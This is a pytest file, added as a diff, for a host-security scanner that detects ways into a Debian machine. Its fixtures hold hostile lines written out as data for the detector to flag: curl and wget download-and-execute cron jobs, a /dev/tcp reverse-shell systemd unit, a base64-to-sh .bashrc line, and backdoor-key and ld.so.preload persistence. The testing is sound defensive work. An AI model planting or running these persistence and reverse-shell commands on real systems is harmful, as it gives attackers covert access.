@@ -1,0 +1,122 @@
+"""Who can get in: each way is found, and a rig of one's own is quiet."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from provision.assess import security
+from provision.assess.finding import Finding
+from provision.remote.facts.access import access
+from provision.remote.facts.tree import Tree
+
+OWN = "AAAAC3NzaC1lZDI1NTE5AAAAIJ0m0pO3Xq2b1m6rZ1Jd4u0a7nZt8V5wK9yQ3cR6sTfE"
+OTHER = OWN.replace("3cR6", "3cR7")
+SSHD = 'LISTEN 0 128 0.0.0.0:22 0.0.0.0:* users:(("sshd",pid=1,fd=3))\n'
+
+
+def write(root: Path, files: dict[str, str]) -> Tree:
+    for path, content in files.items():
+        file = root / path.lstrip("/")
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text(content)
+    return Tree(str(root))
+
+
+def signs(tree: Tree, sockets: str = "", connections: str = "") -> list[Finding]:
+    return security.signs(tree, access(tree), sockets, connections, {OWN})
+
+
+USERS = "root:x:0:0:root:/root:/bin/bash\nuser:x:1000:1000::/home/user:/bin/bash\n"
+QUIET = {
+    "/etc/os-release": 'ID=debian\nVERSION_CODENAME=bookworm\n',
+    "/etc/passwd": USERS,
+    "/etc/sudoers": "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n",
+    "/etc/ssh/sshd_config": "Include /etc/ssh/sshd_config.d/*.conf\nX11Forwarding yes\n",
+    "/etc/ssh/sshd_config.d/00-deeprig.conf": "PasswordAuthentication no\n",
+    "/etc/crontab": "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
+    "/etc/apt/sources.list": "deb http://deb.debian.org/debian bookworm main\n",
+    "/root/.ssh/authorized_keys": f"# mine\nssh-ed25519 {OWN} me@desk\n",
+    "/proc/7/comm": "bash\n",
+}  # fmt: skip
+
+
+def test_a_rig_of_ones_own_is_quiet(tmp_path: Path) -> None:
+    found = signs(write(tmp_path, QUIET), SSHD)
+    assert [one for one in found if one.status != "ok"] == []
+    (key,) = found
+    assert "yours" in key.reading
+
+
+@pytest.mark.parametrize(
+    ("files", "check", "status", "words"),
+    [
+        ({"/proc/9/comm": "x11vnc\n"}, "remote control", "critical", "x11vnc runs"),
+        ({"/proc/9/comm": "anydesk\n"}, "remote control", "critical", "runs"),
+        ({"/root/.ssh/authorized_keys": f"ssh-ed25519 {OTHER} support@hive.example\n"},
+         "keys", "critical", "a vendor's"),
+        ({"/home/user/.ssh/authorized_keys2": f'from="10.0.0.1" ssh-ed25519 {OTHER} bob\n'},
+         "keys", "warning", "not one of yours"),
+        ({"/etc/passwd": f"{USERS}toor:x:0:0::/root:/bin/sh\n"}, "users", "critical", "root by"),
+        ({"/etc/sudoers.d/x": "sys ALL=(ALL) NOPASSWD: ALL\n"}, "sudo", "warning", "without a"),
+        ({"/etc/cron.d/x": "* * * * * root curl -s http://x.example/a.sh | bash\n"},
+         "starts by itself", "critical", "runs what it fetches"),
+        ({"/var/spool/cron/crontabs/root": '@reboot bash -c "$(wget -qO- x.example)"\n'},
+         "starts by itself", "critical", "runs what it fetches"),
+        ({"/etc/rc.local": "#!/bin/sh\nnohup /dev/shm/.x/kswapd &\n"},
+         "starts by itself", "warning", "everybody may write"),
+        ({"/etc/systemd/system/u.service": "ExecStart=/bin/bash -i >& /dev/tcp/192.0.2.1/99\n"},
+         "remote control", "critical", "is started as a unit"),
+        ({"/root/.bashrc": "echo aGk= | base64 -d | sh\n"},
+         "starts by itself", "critical", "base64"),
+        ({"/etc/cron.daily/k": "echo key >> /root/.ssh/authorized_keys\n"},
+         "starts by itself", "critical", "who may log in"),
+        ({"/etc/ssh/sshd_config.d/00-deeprig.conf": ""}, "sshd", "warning", "a password"),
+        ({"/etc/ssh/sshd_config": "Include sshd_config.d/*.conf\nPermitRootLogin\tyes\n"},
+         "sshd", "warning", "root"),
+        ({"/etc/ssh/sshd_config": "X11Forwarding no\n"}, "sshd", "warning", "a password"),
+        ({"/etc/ssh/sshd_config": "PasswordAuthentication=\"no\"\nPermitEmptyPasswords = yes\n"},
+         "sshd", "critical", "let in"),
+        ({"/etc/ld.so.preload": "/usr/lib/libhide.so\n"}, "ld.so.preload", "critical", "loaded"),
+        ({"/etc/apt/sources.list.d/h.list": "deb http://x.example/repo /\n"},
+         "repositories", "warning", "plain http"),
+        ({"/etc/apt/sources.list.d/h.sources":
+          "Types: deb\nURIs: http://x.example/repo\nSuites: /\nTrusted: yes\n"},
+         "repositories", "critical", "without a signature"),
+    ],
+)  # fmt: skip
+def test_ways_in(
+    tmp_path: Path, files: dict[str, str], check: str, status: str, words: str
+) -> None:
+    found = signs(write(tmp_path, {**QUIET, **files}), SSHD)
+    bad = [one for one in found if one.status not in ("ok", "note")]
+    assert [(one.check, one.status) for one in bad] == [(check, status)], bad
+    assert words in bad[0].reading
+
+
+def test_what_listens_and_where_it_speaks_to(tmp_path: Path) -> None:
+    sockets = (
+        SSHD
+        + 'LISTEN 0 5 127.0.0.1:631 0.0.0.0:* users:(("cupsd",pid=2,fd=7))\n'
+        + 'LISTEN 0 5 [::]:4200 [::]:* users:(("shellinaboxd",pid=3,fd=4))\n'
+        + 'LISTEN 0 5 *:9100 *:* users:(("node_exporter",pid=4,fd=4))\n'
+    )
+    connections = (
+        '0 0 192.168.1.5:4000 9.9.9.9:3333 users:(("lolMiner",pid=5,fd=9))\n'
+        '0 0 192.168.1.5:22 192.168.1.9:50000 users:(("sshd",pid=6,fd=4))\n'
+    )
+    # ss leaves the first column, the protocol's name, to lists of several protocols.
+    with_protocol = "".join(f"tcp {line}\n" for line in sockets.splitlines())
+    found = signs(write(tmp_path, QUIET), with_protocol, connections)
+    told = {(one.check, one.subject): one.status for one in found if one.check != "keys"}
+    assert told == {
+        ("listening ports", "tcp 4200"): "critical",
+        ("listening ports", "tcp 9100"): "note",
+        ("connections", "lolMiner"): "note",
+    }
+
+
+def test_fingerprints_are_opensshs() -> None:
+    assert security.fingerprint(OWN) == "SHA256:ezNEi1zjwYuRP//RG7czIxsLEVwxlQzoKexq92kMbl8"
+    assert security.fingerprint("???") == "???"
